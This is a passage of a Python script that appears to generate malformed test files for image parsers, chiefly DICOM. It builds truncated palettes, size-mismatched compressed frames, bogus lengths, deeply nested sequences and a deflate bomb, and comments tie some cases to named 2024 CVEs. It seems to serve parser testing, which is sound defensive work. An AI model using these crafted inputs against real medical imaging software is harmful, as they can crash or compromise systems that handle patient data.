    result += element(0x28, 0x10, "US", le16(rows)) + element(0x28, 0x11, "US", le16(columns)) + element(0x28, 0x100, "US", le16(bits))
    return result + element(0x28, 0x101, "US", le16(stored)) + element(0x28, 0x102, "US", le16(high)) + element(0x28, 0x103, "US", le16(signed)) + more


def dicom(data=bytes(4096), **words):
    return beginning() + layout(**words) + element(0x7FE0, 0x10, "OW", data)


def packed_dicom(syntax, fragments, table=b"", end=sequence_end, **words):
    pixels = element(0x7FE0, 0x10, "OB", length=undefined) + item(table)
    return beginning(syntax) + layout(**words) + pixels + b"".join(item(part + bytes(len(part) % 2)) for part in fragments) + end


def runs_of_zeros(width, height):
    """How many ones say in JPEG-LS that so many rows are zero: the longer the run, the more pixels has each of them."""
    lengths = [0] * 4 + [1] * 4 + [2] * 4 + [3] * 4 + [4, 4, 5, 5, 6, 6, 7, 7, 8, 9, 10, 11, 12, 13, 14, 15]
    count, state = 0, 0
    for _ in range(height):
        left = width
        while left > 0:
            count += 1
            if left >= 1 << lengths[state]:
                left -= 1 << lengths[state]
                state = min(state + 1, 31)
            else:
                left = 0
    return count


def jls(width=64, height=64, components=1, bits=8, near=0, presets=b""):
    """All ones: runs of zeros."""
    parts = b"".join(u8(number + 1, 0x11, 0) for number in range(components))
    scanned = b"".join(u8(number + 1, 0) for number in range(components))
    begins = b"\xff\xd8" + presets + segment(0xF7, u8(bits) + be16(height, width) + u8(components) + parts)
    ones = runs_of_zeros(width, min(height, 5000))
    # Bytes of eight ones and of a zero with seven ones in turn.
    data = b"\xff\x7f" * (ones // 15)
    left = ones % 15
    if left >= 8:
        data += b"\xff" + Bits().code("0" + "1" * (left - 8)).bytes()
    elif left:
        data += Bits().code("1" * left).bytes()
    return begins + segment(0xDA, u8(components) + scanned + u8(near, 2 if components > 1 else 0, 0)) + data + b"\xff\xd9"


def dicom_shapes():
    shape("dicom-whole", dicom())
    # CVE-2024-22391: a table that is shorter than is said of it.
    def palette(entries, said, bits=16, steps=False):
        more = b"".join(element(0x28, 0x1101 + n, "US", le16(said, 0, bits)) for n in range(3))
        return more + b"".join(element(0x28, (0x1221 if steps else 0x1201) + n, "OW", entries) for n in range(3))

    ramp = bytes(place % 256 for place in range(4096))
    shape("dicom-palette", dicom(ramp, colours=b"PALETTE COLOR", more=palette(bytes(512), 256)))
    shape("dicom-palette-shorter-than-said", dicom(ramp, colours=b"PALETTE COLOR", more=palette(bytes(4), 256)))
    shape("dicom-palette-of-65536-said-and-two", dicom(ramp, colours=b"PALETTE COLOR", more=palette(bytes(2), 0)))
    shape("dicom-palette-empty", dicom(ramp, colours=b"PALETTE COLOR", more=palette(b"", 256)))
    shape("dicom-palette-of-99-bits", dicom(ramp, colours=b"PALETTE COLOR", more=palette(bytes(512), 256, 99)))
    shape("dicom-palette-missing", dicom(ramp, colours=b"PALETTE COLOR"))
    shape("dicom-palette-of-three-values", dicom(ramp * 3, colours=b"PALETTE COLOR", samples=3, more=palette(bytes(512), 256)))
    shape("dicom-palette-of-reals", beginning() + layout(colours=b"PALETTE COLOR", bits=32, more=palette(bytes(512), 256)) + element(0x7FE0, 8, "OF", ramp * 4))
    lines = le16(1, 65535, 65535) * 10000
    shape("dicom-palette-of-steps", dicom(ramp, colours=b"PALETTE COLOR", more=palette(le16(0, 1, 0, 1, 255, 65535), 256, 16, True)))
    shape("dicom-palette-of-steps-again-and-again", dicom(ramp, colours=b"PALETTE COLOR", more=palette(le16(2, 65535, 8, 0) + lines * 6, 0, 16, True)))
    shape("dicom-palette-of-steps-that-repeat-themselves", dicom(ramp, colours=b"PALETTE COLOR", more=palette(le16(2, 65535, 0, 0) * 99, 0, 16, True)))
    shape("dicom-palette-of-steps-beyond", dicom(ramp, colours=b"PALETTE COLOR", more=palette(le16(2, 1, 65535, 65535) + le16(0, 65535), 0, 16, True)))
    # CVE-2024-22373: a picture within that is of another size than the elements say.
    for name, syntax, make in [("j2k", j2k_syntax, j2k), ("jpeg-ls", jls_syntax, jls), ("jpeg", jpeg_syntax, jpeg)]:
        shape(f"dicom-{name}", packed_dicom(syntax, [make(64, 64)]))
        shape(f"dicom-{name}-larger", packed_dicom(syntax, [make(1000, 1000)]))
        shape(f"dicom-{name}-smaller", packed_dicom(syntax, [make(8, 8)]))
        shape(f"dicom-{name}-of-65535", packed_dicom(syntax, [make(65535, 65535)]))
        shape(f"dicom-{name}-huge", packed_dicom(syntax, [make(2500, 2500)]))
        shape(f"dicom-{name}-of-three", packed_dicom(syntax, [make(64, 64, 3)]))
        shape(f"dicom-{name}-of-one-and-three-said", packed_dicom(syntax, [make(64, 64)], samples=3, colours=b"RGB"))
        shape(f"dicom-{name}-of-16-bits-said", packed_dicom(syntax, [make(64, 64)], bits=16))
        shape(f"dicom-{name}-of-no-size", packed_dicom(syntax, [make(0, 0)]))
        shape(f"dicom-{name}-cut", packed_dicom(syntax, [make(64, 64)[:60]]))
        shape(f"dicom-{name}-under-another-name", packed_dicom(rle if make is j2k else j2k_syntax, [make(64, 64)]))
    shape("dicom-j2k-4-giga-wide", packed_dicom(j2k_syntax, [j2k(0xFFFFFFFF, 1)]))
    shape("dicom-j2k-of-38-bits", packed_dicom(j2k_syntax, [j2k(bits=37)]))
    shape("dicom-j2k-of-16384-components", packed_dicom(j2k_syntax, [j2k(other_components=16384)]))
    shape("dicom-j2k-sampled-255", packed_dicom(j2k_syntax, [j2k(sampling=255)]))
    shape("dicom-j2k-of-million-tiles", packed_dicom(j2k_syntax, [j2k(4000, 4000, tiles=(1, 1))]))
    shape("dicom-j2k-of-noise", packed_dicom(j2k_syntax, [j2k(body=bytes(range(255)) * 20)]))
    boxes = be32(12) + b"jP  \r\n\x87\n" + be32(0) + b"jp2h" + bytes(99)
    shape("dicom-j2k-in-broken-boxes", packed_dicom(j2k_syntax, [boxes]))
    shape("dicom-jpeg-ls-near-255", packed_dicom(jls_syntax, [jls(near=255)]))
    shape("dicom-jpeg-ls-of-no-bits", packed_dicom(jls_syntax, [jls(bits=0)]))
    shape("dicom-jpeg-ls-presets-beyond", packed_dicom(jls_syntax, [jls(presets=segment(0xF8, u8(1) + be16(65535, 1, 2, 0, 65535)))]))
    for syntax, name in [("1.2.840.10008.1.2.4.51", "12-bits"), ("1.2.840.10008.1.2.4.70", "lossless")]:
        shape(f"dicom-jpeg-of-{name}-said", packed_dicom(syntax, [jpeg(64, 64)], bits=16))
    shape("dicom-jpeg-of-12-bits", packed_dicom("1.2.840.10008.1.2.4.51", [jpeg(64, 64, mark=0xC1, precision=12)], bits=16))
    lossless_scan = jpeg_of(dht(0), sof(0xC3, 64, 64, precision=16), sos(start=1, end=0), bytes(600))
    shape("dicom-jpeg-lossless", packed_dicom("1.2.840.10008.1.2.4.70", [lossless_scan], bits=16))
    shape("dicom-jpeg-lossless-of-17-bits", packed_dicom("1.2.840.10008.1.2.4.70", [lossless_scan.replace(be16(11) + u8(16), be16(11) + u8(17))], bits=16))
    # CVE-2024-25569: fewer pixels than the elements say.
    for bits in [1, 8, 16, 32, 64]:
        shape(f"dicom-pixels-of-{bits}-bits-cut", dicom(bytes(10), bits=bits))
    shape("dicom-pixels-of-reals-cut", beginning() + layout(bits=32) + element(0x7FE0, 8, "OF", bytes(10)))
    shape("dicom-pixels-of-reals-and-others", beginning() + layout(bits=16) + element(0x7FE0, 9, "OD", bytes(10)) + element(0x7FE0, 0x10, "OW", bytes(10)))
    extreme = struct.pack("<dd", 1.7e308, -1.7e308) * 2048
    slope = element(0x28, 0x1052, "DS", b"-1e308") + element(0x28, 0x1053, "DS", b"1e308")
    shape("dicom-reals-of-extremes", beginning() + layout(bits=64, more=slope) + element(0x7FE0, 9, "OD", extreme))
    nans = struct.pack("<ff", float("nan"), float("inf")) * 2048
    shape("dicom-reals-that-are-none", beginning() + layout(bits=32) + element(0x7FE0, 8, "OF", nans))
    table = item(element(0x28, 0x3002, "US", le16(4, 0, 16)) + element(0x28, 0x3006, "OW", bytes(8)))
    tables = element(0x28, 0x3000, "SQ", table) + element(0x28, 0x3010, "SQ", table)
    shape("dicom-tables-of-extremes", beginning() + layout(bits=64, more=slope + tables) + element(0x7FE0, 9, "OD", extreme))
    shape("dicom-tables-shorter-than-said", dicom(ramp, more=element(0x28, 0x3000, "SQ", item(
        element(0x28, 0x3002, "US", le16(0, 65535, 16)) + element(0x28, 0x3006, "OW", bytes(2))))))
    shape("dicom-window-of-extremes", dicom(ramp, more=element(0x28, 0x1050, "DS", b"1e308") + element(0x28, 0x1051, "DS", b"1e-308") + element(0x28, 0x1052, "DS", b"nan") + element(0x28, 0x1053, "DS", b"-inf")))
    shape("dicom-sigmoid-of-extremes", dicom(ramp, more=element(0x28, 0x1050, "DS", b"-1e308") + element(0x28, 0x1051, "DS", b"1e-300") + element(0x28, 0x1053, "DS", b"1e308") + element(0x28, 0x1056, "CS", b"SIGMOID")))
    shape("dicom-pixels-missing", beginning() + layout())
    shape("dicom-pixels-empty", dicom(b""))
    shape("dicom-pixels-said-4-giga", beginning() + layout() + element(0x7FE0, 0x10, "OW", bytes(99), 0xFFFFFFF0))
    shape("dicom-pixels-as-sequence", beginning() + layout() + element(0x7FE0, 0x10, "SQ", item(element(8, 5, "CS", b"x"))))
    shape("dicom-frames-of-2-giga", dicom(frames=2147483647))
    shape("dicom-frames-below-0", dicom(frames=-2147483648))
    shape("dicom-frames-of-many-digits", beginning() + layout(more=b"").replace(element(0x28, 4, "CS", b"MONOCHROME2"), element(0x28, 4, "CS", b"MONOCHROME2") + element(0x28, 8, "IS", b"9" * 60000)) + element(0x7FE0, 0x10, "OW", bytes(4096)))
    for bits in [0, 7, 12, 64, 65535]:
        shape(f"dicom-{bits}-bits", dicom(bits=bits))
    shape("dicom-stored-more-than-allocated", dicom(bits=8, stored=64, high=65535))
    shape("dicom-stored-none", dicom(bits=16, stored=0, high=0, signed=1))
    shape("dicom-high-beyond", dicom(bits=16, stored=12, high=65535, signed=1))
    shape("dicom-samples-0", dicom(samples=0))
    shape("dicom-samples-65535", dicom(samples=65535))
    shape("dicom-three-of-64-bits", dicom(samples=3, bits=64, colours=b"RGB"))
    shape("dicom-halved-colours-cut", dicom(bytes(7), samples=3, colours=b"YBR_FULL_422"))
    shape("dicom-halved-colours-of-odd-size", dicom(bytes(9999), rows=7, columns=7, samples=3, colours=b"YBR_FULL_422"))
    shape("dicom-no-rows", dicom(rows=0))
    shape("dicom-as-many-pixels-as-may-be", dicom(rows=14000, columns=14000))
    shape("dicom-many-colours", dicom(rows=6000, columns=6000, samples=3, colours=b"YBR_FULL_422"))
    shape("dicom-ratio-of-extremes", dicom(more=element(0x28, 0x34, "IS", b"1\\0")))
    shape("dicom-ratio-of-nothing", dicom(more=element(0x28, 0x30, "DS", b"1e-308\\1e308")))
    # Fragments.
    one = jpeg(64, 64)
    shape("dicom-fragments-beyond", packed_dicom(jpeg_syntax, [one, one], le32(0, 0xFFFFFFF0), frames=2))
    shape("dicom-fragments-backwards", packed_dicom(jpeg_syntax, [one, one, one], le32(500, 0, 500, 0), frames=2))
    extended = element(0x7FE0, 1, "OV", le64((1 << 64) - 1, 1 << 63)) + element(0x7FE0, 2, "OV", le64((1 << 64) - 1, 1 << 63))
    shape("dicom-fragments-of-64-bits", packed_dicom(jpeg_syntax, [one, one, one], frames=2, more=extended))
    shape("dicom-fragments-none", packed_dicom(jpeg_syntax, []))
    shape("dicom-fragments-without-end", packed_dicom(jpeg_syntax, [one], end=b""))
    shape("dicom-fragments-empty", packed_dicom(jpeg_syntax, [b""] * 9, frames=9))
    pixels = element(0x7FE0, 0x10, "OB", length=undefined)
    shape("dicom-fragment-said-4-giga", beginning(jpeg_syntax) + layout() + pixels + item() + item(one, 0xFFFFFFFE))
    shape("dicom-fragment-without-length", beginning(jpeg_syntax) + layout() + pixels + item() + item(one, undefined) + sequence_end)
    shape("dicom-fragments-in-a-plain-file", beginning() + layout() + pixels + item() + item(one) + sequence_end)
    # Run lengths.
    for name, header in [
        ("beyond", le32(1, 0xFFFFFFF0)), ("below-0", le32(1, -64)), ("of-15", le32(15, *[64] * 15)), ("of-4-giga", le32(0xFFFFFFFF, 64)),
        ("backwards", le32(2, 90, 64)), ("within-the-header", le32(1, 0)), ("of-none", le32(0, 64)),
    ]:
        shape(f"dicom-runs-{name}", packed_dicom(rle, [(header + bytes(64))[:64] + b"\x81\x55" * 100], bits=16 if name == "backwards" else 8))
    shape("dicom-runs", packed_dicom(rle, [le32(1, 64) + bytes(56) + b"\x81\x55" * 40]))
    shape("dicom-runs-of-three", packed_dicom(rle, [le32(3, 64, 64, 64) + bytes(48) + b"\x81\x55" * 40], samples=3, colours=b"RGB"))
    shape("dicom-runs-of-one-bit", packed_dicom(rle, [le32(1, 64) + bytes(60) + b"\x81\x55" * 40], bits=1))
    shape("dicom-runs-cut", packed_dicom(rle, [le32(1, 64)]))
    shape("dicom-runs-for-much", packed_dicom(rle, [le32(1, 64) + bytes(60) + b"\x81\x55" * 40], rows=2500, columns=2500))
    # Elements.
    nested = (element(8, 0x1140, "SQ", length=undefined) + item(length=undefined)) * 10000
    shape("dicom-sequences-10000-deep", beginning() + nested)
    shape("dicom-sequences-10000-deep-and-ended", beginning() + nested + (item_end + sequence_end) * 10000 + layout())
    inner = b""
    for _ in range(300):
        inner = element(8, 0x1140, "SQ", item(inner))
    shape("dicom-sequences-300-deep", beginning() + inner + layout() + element(0x7FE0, 0x10, "OW", bytes(4096)))
    unknown = b""
    for _ in range(3000):
        unknown = element(9, 0x1010, "UN", le16(9, 0x1010) + le32(undefined) + item(unknown) + sequence_end, undefined)
    shape("dicom-unknown-3000-deep", beginning() + unknown + layout())
    shape("dicom-sequence-of-many", beginning() + element(8, 0x1140, "SQ", item() * 200000) + layout())
    shape("dicom-sequence-said-longer", beginning() + element(8, 0x1140, "SQ", item(bytes(8), 0x7FFFFFFE), 0xFFFFFFFE))
    shape("dicom-item-without-end", beginning() + element(8, 0x1140, "SQ", item(length=undefined) + layout(), undefined))
    shape("dicom-only-ends", beginning() + (item_end + sequence_end) * 10000)
    shape("dicom-elements-of-many", beginning() + b"".join(element(9 + 2 * (n >> 16), n, "CS", b"") for n in range(100000)))
    shape("dicom-same-element-again", beginning() + element(0x28, 0x10, "US", le16(64)) * 50000 + layout() + element(0x7FE0, 0x10, "OW", bytes(4096)))
    shape("dicom-elements-backwards", beginning() + element(0x7FE0, 0x10, "OW", bytes(4096)) + layout())
    shape("dicom-kinds-of-nothing", beginning() + le16(8, 0x60) + b"\0\0" + le16(4) + b"CTCT" + layout())
    shape("dicom-kinds-wrong", beginning() + layout().replace(b"US", b"FD"))
    shape("dicom-sizes-as-sequences", beginning() + layout().replace(element(0x28, 0x10, "US", le16(64)), element(0x28, 0x10, "SQ", item())))
    shape("dicom-odd-lengths", beginning() + le16(8, 0x60) + b"CS" + le16(3) + b"CT " + layout())
    shape("dicom-deflate-bomb", beginning(deflated) + deflated_zeros(3000, True))
    shape("dicom-deflate-of-noise", beginning(deflated) + bytes(range(256)) * 9)
    shape("dicom-deflated", beginning(deflated) + zlib.compress(layout() + element(0x7FE0, 0x10, "OW", bytes(4096)))[2:-4])
    shape("dicom-meta-said-4-giga", bytes(128) + b"DICM" + element(2, 0, "UL", le32(0xFFFFFFFF)) + element(2, 0x10, "UI", explicit.encode()))
    shape("dicom-meta-of-none", bytes(128) + b"DICM" + layout() + element(0x7FE0, 0x10, "OW", bytes(4096)))
    shape("dicom-syntax-of-no-kind", beginning("1.2.3.4.5.6.7.8.9") + layout() + element(0x7FE0, 0x10, "OW", bytes(4096)))
    shape("dicom-syntax-from-above", beginning("1.2.840.10008.1.2.2") + layout() + element(0x7FE0, 0x10, "OW", bytes(4096)))
    shape("dicom-text-of-megabytes", beginning("1.2.840.10008.1.2") + le16(8, 5) + le32(10) + b"ISO_IR 192" + le16(8, 0x103E) + le32(3000000) + b"\xe4" * 3000000)
    shape("dicom-text-of-escapes", beginning() + element(8, 5, "CS", b"\\ISO 2022 IR 87") + element(8, 0x103E, "LO", b"\x1b$B" * 20000 + b"\x1b") + layout())
    shape("dicom-text-that-breaks-lines", beginning() + element(8, 5, "CS", b"ISO_IR 192") + element(8, 0x60, "CS", b"CT") + element(8, 0x103E, "LO", b"a\nrows 1\r\n\xe2\x80\xa8frames 9") + layout())
    # Groups of frames that refer to what is not there.
    groups = element(0x5200, 0x9230, "SQ", item(element(0x28, 0x9132, "SQ", item())) + item(length=undefined) + item_end)
    shape("dicom-groups-of-frames", beginning() + layout(frames=9, more=b"") + groups + element(0x7FE0, 0x10, "OW", bytes(4096)))
    shape("dicom-mark-alone", bytes(128) + b"DICM")


families = {
    "png": png_shapes, "jpeg": jpeg_shapes, "webp": webp_shapes, "gif": gif_shapes, "tiff": tiff_shapes, "heif": heif_shapes,
    "pdf": pdf_shapes, "dicom": dicom_shapes,
}
for family in sys.argv[2:] or families:
    families[family]()
for name, content in shapes.items():
    assert len(content) <= 64 << 20, name
    (Path(sys.argv[1]) / name).write_bytes(content)
